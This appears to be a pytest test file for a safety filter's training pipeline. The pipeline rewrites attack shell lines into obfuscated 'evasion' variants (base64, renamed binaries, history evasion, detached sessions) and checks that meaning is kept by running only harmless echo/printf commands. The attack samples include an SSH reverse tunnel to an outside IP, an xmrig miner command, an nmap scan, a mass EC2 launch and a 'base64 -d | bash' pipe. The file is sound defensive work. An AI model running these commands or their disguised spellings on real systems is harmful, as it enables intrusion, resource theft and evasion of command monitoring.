"""Evasion transforms: they apply to real attack lines (as text only), compose, stay deterministic,
keep held-out families out of training, and keep meaning: each output is run by bash on HARMLESS
commands (printf/echo) and must print what the original prints. No attack line is ever run."""
from __future__ import annotations

import functools
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
from contextlib import contextmanager
from pathlib import Path
from typing import Iterator

import pytest
import yaml

from safefilter.training import transforms
from safefilter.training.transforms import FAMILIES, HELDOUT_FAMILIES, evade, training_families

ATTACKS = ("ssh -R 9000:localhost:22 user@203.0.113.7", "xmrig -o pool.example:3333 -u WALLET",
           "nmap -sS 10.0.0.0/24", "aws ec2 run-instances --image-id ami-1 --count 20")
HARMLESS_LINES = ("printf '%s\\n' hello world", "echo safe-marker 123",
                  "printf '%s\\n' b a | sort; echo \"it's $((2 + 3))\"")
_DATA = yaml.safe_load((Path(transforms.__file__).parent / "transforms.yaml").read_text(encoding="utf-8"))
_DROP_PATHS = [p.replace("{{name}}", n) for p in _DATA["hidden_paths"] if p.startswith("/")
               for n in [*_DATA["hidden_names"], *(f"_v{i}" for i in range(4))]]  # where a sample may drop a file
DETACHED = "detached"  # output goes to a tmux/screen/systemd session or /dev/null: checked by a file it writes
SEEDS = range(6)


def _missing_tool(command: str) -> str | None:
    """The interpreter or session tool a transformed line starts (anywhere in it) that is not installed."""
    for tool in ("ruby", "node", "perl", "screen", "tmux", "systemd-run", "xxd"):
        if re.search(rf"(?<![\w./-]){tool} ", command) and shutil.which(tool) is None:
            return tool
    if "systemd-run" in command:
        return "systemd-run (no user session in a test)"
    return None


def _unprivileged() -> list[str]:
    """As root, run samples as `nobody`: a transform that writes through a symlink (cp onto a link a
    renamed-binary line made) must fail on system files instead of replacing /usr/bin/echo."""
    if os.geteuid() != 0:
        return []
    if shutil.which("setpriv") is None:
        pytest.skip("running transformed commands as root needs setpriv to drop privileges")
    return ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


@contextmanager
def _sandbox() -> Iterator[Path]:
    """A fresh folder the unprivileged run can write (pytest's tmp_path is private to root)."""
    folder = Path(tempfile.mkdtemp(prefix="sf-transforms-"))
    folder.chmod(0o777)
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


@functools.lru_cache(maxsize=1)
def _private_tmp() -> bool:
    """Whether samples can get their own /tmp and /var/tmp (root with mount namespaces): then parallel
    test runs cannot see, or remove, each other's dropped files."""
    return os.geteuid() == 0 and shutil.which("unshare") is not None and subprocess.run(
        ["unshare", "-m", "true"], capture_output=True).returncode == 0


_ISOLATE = ("mount -t tmpfs -o mode=1777 tmpfs /tmp && mount -t tmpfs -o mode=1777 tmpfs /var/tmp"
            " && mkdir -m 777 /tmp/w && cd /tmp/w && exec \"$@\"")


def _run(command: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """Run a transformed HARMLESS command unprivileged, in a private /tmp when possible, else in a fresh
    folder (or `cwd`) and removing what it drops in /tmp or /var/tmp (names may be encoded) after."""
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "LC_ALL": "C.UTF-8"}
    run = functools.partial(subprocess.run, capture_output=True, text=True, timeout=20, stdin=subprocess.DEVNULL)
    if cwd is None and _private_tmp():
        return run(["unshare", "-m", "sh", "-c", _ISOLATE, "isolate", *_unprivileged(), "env", "HOME=/tmp/w",
                    "TMUX_TMPDIR=/tmp/w", "bash", "-c", command], env=env)
    if cwd is None:
        with _sandbox() as folder:
            return _run(command, folder)
    dropped = [p for p in _DROP_PATHS if not os.path.lexists(p)]
    try:
        return run([*_unprivileged(), "bash", "-c", command], cwd=cwd,
                   env={**env, "HOME": str(cwd), "TMUX_TMPDIR": str(cwd)})
    finally:
        for path in dropped:
            Path(path).unlink(missing_ok=True)


@functools.lru_cache(maxsize=None)
def _expected(command: str) -> str:
    done = _run(command)
    assert done.returncode == 0 and done.stdout, done
    return done.stdout


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_every_family_applies_to_typical_attack_lines_as_text(family: str) -> None:
    for attack in ATTACKS:
        outs = {FAMILIES[family](attack, random.Random(seed)) for seed in SEEDS}
        assert None not in outs and attack not in outs, (family, attack, outs)


@pytest.mark.parametrize("family", sorted(set(FAMILIES) - {DETACHED}))
def test_each_family_keeps_what_a_harmless_command_prints(family: str) -> None:
    checked, skipped = 0, set()
    for command in HARMLESS_LINES:
        expected = _expected(command)
        for seed in SEEDS:
            out = FAMILIES[family](command, random.Random(seed))
            if out is None:
                assert command == HARMLESS_LINES[-1], f"{family} does not apply to a simple command"
                continue
            assert out != command
            missing = _missing_tool(out)
            if missing:
                skipped.add(missing)
                continue
            done = _run(out)
            assert done.stdout == expected, (family, out, done.stderr)
            checked += 1
    if not checked:
        pytest.skip(f"{family}: outputs built as text, not run: {', '.join(sorted(skipped))} not installed")


# Shell features a transform must carry through: heredocs, loops, comments, cd in a subshell, files.
SHELL_FEATURES = ("cat <<'EOF'\nhello heredoc\nEOF", "for i in 1 2 3; do echo n$i; done # count",
                  "(cd /etc && ls -d ssl)", "x=5; echo $((x*2)) > out.txt; cat out.txt")


@pytest.mark.parametrize("family", sorted(set(FAMILIES) - {DETACHED}))
def test_each_family_carries_shell_features(family: str) -> None:
    for command in SHELL_FEATURES:
        expected = _expected(command)
        for seed in range(3):
            out = FAMILIES[family](command, random.Random(seed))
            if out is not None and not _missing_tool(out):
                assert _run(out).stdout == expected, (family, out)


def test_detached_family_still_runs_the_command() -> None:
    ran = 0
    for seed in SEEDS:
        with _sandbox() as folder:
            marker = folder / "marker"
            out = FAMILIES[DETACHED](f"echo safe-marker {seed} > {marker}", random.Random(seed))
            if _missing_tool(out):
                continue
            _run(out, folder)
            for _ in range(100):  # a detached job finishes after bash returns
                if marker.exists() and marker.read_text():
                    break
                time.sleep(0.05)
            assert marker.read_text() == f"safe-marker {seed}\n", out
        ran += 1
    assert ran, "no detached spelling could run here"


@pytest.mark.parametrize("seed", range(30))
def test_random_compositions_keep_meaning(seed: int) -> None:
    rng = random.Random(seed)
    command = HARMLESS_LINES[seed % len(HARMLESS_LINES)]
    runnable = set(FAMILIES) - {DETACHED} - ({"ruby_oneliner"} if shutil.which("ruby") is None else set())
    out, names = evade(command, rng, families=runnable, depth=rng.randint(2, 3))
    assert len(names) >= 2 and out != command
    assert _run(out).stdout == _expected(command), (names, out)


# Chains that once broke meaning: a rename of a path the line itself makes, `find -exec ... \\;` in a
# group, a function name sent to `which`, a quoted `declare`, bash-only lines handed to dash.
CHAINS = (("renamed_binary", "renamed_binary", "renamed_binary"), ("exec_proxy", "background"),
          ("param_expansion", "function_wrap", "full_path"), ("array", "quote_split", "function_wrap"),
          ("history_evasion", "base64"), ("renamed_binary", "reverse"), ("argv0_masquerade", "function_wrap"))


@pytest.mark.parametrize("chain", CHAINS, ids="+".join)
def test_known_hard_chains_keep_meaning(chain: tuple[str, ...]) -> None:
    for seed in range(6):
        rng = random.Random(seed)
        command = out = HARMLESS_LINES[seed % len(HARMLESS_LINES)]
        for name in chain:
            out = FAMILIES[name](out, rng) or out
        assert out != command
        assert _run(out).stdout == _expected(command), (chain, out)


def test_held_out_families_are_never_used_by_default() -> None:
    assert 3 <= len(HELDOUT_FAMILIES) <= 4 and HELDOUT_FAMILIES <= set(FAMILIES)
    assert training_families() == tuple(sorted(set(FAMILIES) - HELDOUT_FAMILIES))
    used = set()
    for seed in range(300):
        used.update(evade(ATTACKS[seed % 4], random.Random(seed))[1])
    assert not used & HELDOUT_FAMILIES
    assert len(used) >= len(training_families()) - 3  # the default really draws from all of them


def test_held_out_families_apply_when_asked() -> None:
    out, names = evade(ATTACKS[0], random.Random(0), families=HELDOUT_FAMILIES, depth=1)
    assert len(names) == 1 and names[0] in HELDOUT_FAMILIES and out != ATTACKS[0]


def test_same_seed_same_output_and_seeds_differ() -> None:
    runs = [evade(ATTACKS[1], random.Random(7), depth=3) for _ in range(2)]
    assert runs[0] == runs[1] and len(runs[0][1]) == 3
    assert len({evade(ATTACKS[1], random.Random(s))[0] for s in range(20)}) >= 15


def test_depth_defaults_to_one_to_three_and_composes() -> None:
    depths = {len(evade(ATTACKS[2], random.Random(s))[1]) for s in range(60)}
    assert depths == {1, 2, 3}
    out, names = evade(ATTACKS[0], random.Random(4), families=["base64", "quote_split"], depth=2)
    assert len(names) == 2 and out != ATTACKS[0]
    if names == ("quote_split", "base64"):  # the later transform wraps the earlier output
        assert "ssh" not in out


def test_no_applicable_family_leaves_the_command_unchanged() -> None:
    assert evade("   ", random.Random(0)) == ("   ", ())
    # a line with operators has no simple-command form for ifs/array/brace
    assert evade("a | b", random.Random(0), families=["ifs", "array", "brace_expansion"]) == ("a | b", ())


def test_bad_arguments_are_refused() -> None:
    with pytest.raises(ValueError, match="unknown"):
        evade(ATTACKS[0], random.Random(0), families=["no_such_family"])
    with pytest.raises(ValueError, match="depth"):
        evade(ATTACKS[0], random.Random(0), depth=0)


def test_shell_words_finds_command_names_and_refuses_what_it_cannot_follow() -> None:
    from safefilter.training.shell_words import command_words, defined_functions, lex, simple_words

    names = [t.text for t in command_words(lex("A=1 ssh -R 9:h:22 u@h | base64 -d | bash 2>/dev/null") or ())]
    assert names == ["ssh", "base64", "bash"]
    assert [t.text for t in command_words(lex("f() { curl \"$(echo x)\" 'a b'; }; if true; then nc h 1; fi") or ())] \
        == ["curl", "nc"]  # f is a definition, `then` leads to a command
    assert lex("cat <<EOF\nx\nEOF") is None and lex("echo 'open") is None and lex("echo x # c") is None
    assert simple_words("printf '%s\\n' \"a b\" $(date)") == ("printf", "'%s\\n'", '"a b"', "$(date)")
    assert simple_words("echo a > f") is None and simple_words("x=1") is None
    assert defined_functions("k() { :; }; function m { :; }") == {"k", "m"}


def test_outputs_do_not_depend_on_string_hashing() -> None:
    """Training data must rebuild bit for bit: no set order may leak into the random draws."""
    code = ("import random,sys;from safefilter.training.transforms import FAMILIES,evade;"
            "print([evade(c,random.Random(s),families=set(FAMILIES)) for s in range(60) for c in sys.argv[1:]])")
    outs = {subprocess.run([sys.executable, "-c", code, *ATTACKS], capture_output=True, text=True, check=True,
                           env={**os.environ, "PYTHONHASHSEED": seed}).stdout for seed in ("1", "2")}
    assert len(outs) == 1
